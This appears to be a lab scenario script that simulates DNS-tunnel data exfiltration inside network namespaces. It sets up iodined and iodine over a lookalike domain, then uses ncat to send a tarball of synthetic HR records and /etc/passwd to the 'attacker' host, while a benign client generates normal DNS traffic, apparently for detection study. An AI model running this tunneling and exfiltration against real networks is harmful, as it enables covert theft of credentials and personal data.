# sourced by run-scenario.sh: the story played between the hosts
# DNS tunnel: iodined on the attacker is the authoritative server of t.cdn-sync-update.net; the
# lab's resolver forwards that zone to it. The victim runs iodine through the resolver only (-r:
# no raw UDP to the attacker), gets a tunnel (10.53.0.0/27), and sends a tar.gz of an HR file and
# /etc/passwd through it with ncat (about 8 KB). Bounded: the tunnel lives about 30 s. A benign
# client resolves corp.lan names meanwhile.
NET=172.31.221; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0
TUNDOM=t.cdn-sync-update.net
DNSMASQ_EXTRA="--server=/$TUNDOM/$NET.66"
services() {
  mkdir -p "$RUN/victim/hr" "$RUN/att"
  /usr/bin/python3 - "$RUN/victim/hr/employees.csv" <<'PY'
import random, sys
random.seed(7)
first = ["Anna", "Ben", "Chloe", "David", "Emma", "Felix", "Grace", "Hugo", "Iris", "Jonas", "Kira", "Liam"]
last = ["Meyer", "Schmidt", "Novak", "Rossi", "Dubois", "Jansen", "Kowalski", "Berg", "Costa", "Weber"]
with open(sys.argv[1], "w") as f:
    f.write("id,name,department,salary,iban\n")
    for i in range(1, 201):
        f.write("%d,%s %s,%s,%d,DE%020d\n" % (1000 + i, random.choice(first), random.choice(last),
                random.choice(["Sales", "IT", "HR", "Finance", "Ops"]), random.randrange(38000, 95000, 500), random.randrange(10**19, 10**20)))
PY
  ( cd "$RUN/victim" && tar czf "$RUN/victim/loot.tgz" hr/employees.csv -C "/etc/netns/$P-vic" passwd )
  nsx att timeout 120 iodined -f -c -P 'Tunn3l!pw' -l $A -p 53 10.53.0.1/27 $TUNDOM >"$RUN/logs/iodined.log" 2>&1 &
}
play() {
  note "attacker $A (iodined, authoritative for $TUNDOM, tunnel address 10.53.0.1); victim $V (iodine client, tunnel 10.53.0.2); resolver $D (dnsmasq forwards $TUNDOM to $A); benign client $C"
  nsx cli dig +short @$D portal.corp.lan >/dev/null || true
  note "1 tunnel set-up: iodine -r (DNS relay only) via the resolver $D, password-authenticated; it probes the query types and encodings, then settles"
  nsx vic timeout 45 iodine -f -r -P 'Tunn3l!pw' $D $TUNDOM >"$RUN/logs/iodine.log" 2>&1 &
  local iopid=$!
  for i in $(seq 1 20); do nsx vic ip addr show dns0 2>/dev/null | grep -q 10.53.0 && break; sleep 1; done
  note "   tunnel up after about $i s"
  sleep 2
  note "2 exfiltration through the tunnel: ncat from 10.53.0.2 to 10.53.0.1:8443 carries loot.tgz ($(stat -c %s "$RUN/victim/loot.tgz") bytes: hr/employees.csv and passwd); the bridge sees only DNS queries and answers"
  nsx att timeout 30 ncat -l 10.53.0.1 8443 > "$RUN/att/loot.tgz" 2>"$RUN/logs/ncat-l.log" &
  local lpid=$!
  sleep 1
  nsx vic timeout 25 ncat --send-only 10.53.0.1 8443 < "$RUN/victim/loot.tgz" 2>"$RUN/logs/ncat-c.log" || true
  wait $lpid || true
  note "   received $(stat -c %s "$RUN/att/loot.tgz") bytes, sha256 $(sha256sum < "$RUN/att/loot.tgz" | cut -c1-16)… (sent $(sha256sum < "$RUN/victim/loot.tgz" | cut -c1-16)…)"
  for i in 1 2 3; do nsx cli dig +short @$D files.corp.lan >/dev/null || true; nsx cli dig +short @$D portal.corp.lan AAAA >/dev/null || true; sleep 1; done
  note "3 the tunnel idles a few seconds (keep-alive pings), then iodine is stopped"
  sleep 4
  kill $iopid 2>/dev/null || true; wait $iopid 2>/dev/null || true
  note "4 benign client resolves portal/files.corp.lan (A and AAAA) before and during the tunnel"
}
